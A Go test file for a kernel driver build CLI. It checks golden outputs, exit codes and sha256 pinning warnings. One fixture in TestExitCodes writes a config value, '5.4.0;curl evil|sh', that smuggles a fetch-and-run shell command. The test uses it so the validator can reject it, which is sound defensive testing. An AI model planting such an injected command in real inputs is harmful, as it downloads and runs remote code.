package main

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/falcosecurity/dbg/config/configtest"
)

var update = flag.Bool("update", false, "rewrite golden files")

// dbg runs the CLI in-process and returns stdout, stderr and the exit code.
func dbg(t testing.TB, args ...string) (string, string, int) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := execute(t.Context(), newRootCmd(), args, &stdout, &stderr)
	return stdout.String(), stderr.String(), code
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from golden file:\n got:\n%s\nwant:\n%s", name, got, want)
	}
}

// testKernels is the config dir of the CLI tests.
const testKernels = "testdata/kernels"

// copyTestKernels copies testKernels into dir, for a test that changes it.
func copyTestKernels(t *testing.T, dir string) {
	t.Helper()
	if err := os.CopyFS(dir, os.DirFS(testKernels)); err != nil {
		t.Fatal(err)
	}
}

// appendToFile appends text to the file at path.
func appendToFile(t *testing.T, path, text string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	configtest.WriteFile(t, path, string(data)+text)
}

func TestGoldenOutputs(t *testing.T) {
	tests := []struct {
		golden string
		args   []string
	}{
		{"plan.txt", []string{"plan"}},
		{"plan.json", []string{"plan", "-o", "json"}},
		{"plan-filtered.json", []string{"plan", "-o", "json", "--arch", "x86_64", "--target", "ubuntu-*,debian", "--kernelrelease", "5.*,6.1.*"}},
		{"plan-driver-version.json", []string{"plan", "-o", "json", "--driver-version", "9.*", "--target", "debian"}},
		{"stats.txt", []string{"stats"}},
		{"stats.json", []string{"stats", "-o", "json"}},
	}
	for _, tc := range tests {
		t.Run(tc.golden, func(t *testing.T) {
			out, errOut, code := dbg(t, append([]string{"--config-dir", testKernels}, tc.args...)...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			golden(t, tc.golden, out)
		})
	}
}

func TestExitCodes(t *testing.T) {
	bad := t.TempDir()
	copyTestKernels(t, bad)
	configtest.WriteFile(t, filepath.Join(bad, "x86_64", "broken.yaml"), "kernelrelease: 5.4.0;curl evil|sh\n")
	tests := []struct {
		name string
		args []string
		want int
	}{
		{"valid configs", []string{"--config-dir", testKernels, "validate"}, 0},
		{"invalid config", []string{"--config-dir", bad, "validate"}, 1},
		{"plan refuses invalid configs", []string{"--config-dir", bad, "plan"}, 1},
		{"missing config dir", []string{"--config-dir", filepath.Join(bad, "nope"), "plan"}, 1},
		{"unknown flag", []string{"plan", "--bogus"}, 2},
		{"bad shard", []string{"--config-dir", testKernels, "plan", "--shard", "3/2"}, 2},
		{"bad pattern", []string{"--config-dir", testKernels, "plan", "--target", "[a"}, 2},
		{"no driver version matches", []string{"--config-dir", testKernels, "plan", "--driver-version", "1.*"}, 2},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, errOut, code := dbg(t, tc.args...)
			if code != tc.want {
				t.Errorf("exit %d, want %d; stderr: %s", code, tc.want, errOut)
			}
		})
	}
}

func TestValidateNamesTheFile(t *testing.T) {
	bad := t.TempDir()
	copyTestKernels(t, bad)
	path := filepath.Join(bad, "x86_64", "ubuntu-generic_5.15.0-91-generic_101.yaml")
	appendToFile(t, path, "driverversion: 9.1.0+driver\n")
	out, _, code := dbg(t, "--config-dir", bad, "validate")
	dvPath := filepath.Join(bad, "driverversions.yaml")
	want := dvPath + ":6:5: sha256: warning: 10.0.0+driver is not pinned: its source tarball is not checked (the digest dbg gets is recorded in the manifest)\n" +
		dvPath + ":10:5: sha256: warning: 9.1.0+driver is not pinned: its source tarball is not checked (the digest dbg gets is recorded in the manifest)\n" +
		path + ":8:1: driverversion: the driver version is not set per kernel: dbg crosses every kernel with the driver versions of driverversions.yaml; remove this key\n" +
		"1 problem(s) in 1 file(s); 4 valid kernel config(s); 2 warning(s)\n"
	if code != 1 || out != want {
		t.Errorf("exit %d, output:\n%s\nwant:\n%s", code, out, want)
	}
}

// Unpinned versions of the window are warnings: validate prints them and
// still exits 0; plan neither prints them nor refuses to plan.
func TestValidateWarnsUnpinnedVersions(t *testing.T) {
	dvPath := filepath.Join(testKernels, "driverversions.yaml")
	out, _, code := dbg(t, "--config-dir", testKernels, "validate")
	want := dvPath + ":6:5: sha256: warning: 10.0.0+driver is not pinned: its source tarball is not checked (the digest dbg gets is recorded in the manifest)\n" +
		dvPath + ":10:5: sha256: warning: 9.1.0+driver is not pinned: its source tarball is not checked (the digest dbg gets is recorded in the manifest)\n" +
		"ok: 5 kernel config(s) valid; 2 warning(s)\n"
	if code != 0 || out != want {
		t.Errorf("exit %d, output:\n%s\nwant:\n%s", code, out, want)
	}
	if _, errOut, code := dbg(t, "--config-dir", testKernels, "plan"); code != 0 || strings.Contains(errOut, "warning") {
		t.Errorf("plan: exit %d, stderr: %s", code, errOut)
	}

	pinned := t.TempDir()
	copyTestKernels(t, pinned)
	data, _ := os.ReadFile(dvPath)
	pin := "\n    sha256: " + strings.Repeat("0", 64) + "\n"
	data = bytes.Replace(data, []byte(`"10.0.0+driver"`+"\n"), []byte(`"10.0.0+driver"`+pin), 1)
	data = bytes.Replace(data, []byte(`"9.1.0+driver"`+"\n"), []byte(`"9.1.0+driver"`+pin), 1)
	if err := os.WriteFile(filepath.Join(pinned, "driverversions.yaml"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	if out, _, code := dbg(t, "--config-dir", pinned, "validate"); code != 0 || out != "ok: 5 kernel config(s) valid\n" {
		t.Errorf("pinned: exit %d, output:\n%s", code, out)
	}

	bad := filepath.Join(pinned, "driverversions.yaml")
	if err := os.WriteFile(bad, bytes.Replace(data, []byte(strings.Repeat("0", 64)), []byte("XYZ"), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _, code = dbg(t, "--config-dir", pinned, "validate")
	want = bad + ":6:5: sha256: \"XYZ\" must be 64 lowercase hex digits (the sha256 of the source tarball)\n" +
		"1 problem(s) in 1 file(s); 5 valid kernel config(s)\n"
	if code != 1 || out != want {
		t.Errorf("bad pin: exit %d, output:\n%s\nwant:\n%s", code, out, want)
	}
}
